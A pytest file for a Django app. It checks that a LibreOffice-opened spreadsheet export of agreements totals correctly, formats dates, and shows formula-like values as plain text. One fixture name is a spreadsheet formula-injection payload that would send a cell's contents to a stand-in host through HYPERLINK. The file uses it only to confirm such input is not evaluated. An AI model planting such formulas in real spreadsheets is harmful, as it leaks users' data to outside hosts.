"""The convenios export opened as a person opens it (LibreOffice), against the list page."""

import re

import pytest
from django.urls import reverse

from nucleo.models import Rol
from tests.factories import ConvenioFactory, usuario_con_rol
from tests.libreoffice import con_suma, hojas_como_csv

pytestmark = pytest.mark.django_db

HIPERVINCULO = '=HYPERLINK("http://ejemplo.invalid/?d="&C4,"ver")'


def test_suma_de_recursos_en_libreoffice_es_el_total_de_la_pagina(client, tmp_path):
    ConvenioFactory(nombre="Con SENADIS", recursos_comprometidos=18_500_000)
    ConvenioFactory(nombre="Otro", recursos_comprometidos=1_234_567)
    ConvenioFactory(nombre=HIPERVINCULO, resolucion_numero="-12", recursos_comprometidos=250_000)
    client.force_login(usuario_con_rol(Rol.DIRECTOR))

    pagina = client.get(reverse("convenios:convenio_list")).content.decode()
    total = re.search(r"recursos comprometidos \$([\d.]+)", pagina).group(1)
    libro = client.get(reverse("convenios:convenio_export")).content
    filas = hojas_como_csv(con_suma(libro, "Convenios", "K4:K6", "K8"), tmp_path)["Convenios"]

    assert total == "19.984.567"
    assert filas[7][10] == total.replace(".", "")
    assert HIPERVINCULO in [f[0] for f in filas]  # shown as typed, not evaluated
    assert "-12" in [f[3] for f in filas]
    assert {f[6] for f in filas[3:6]} == {"15-03-2025"}  # dates shown dd-mm-aaaa
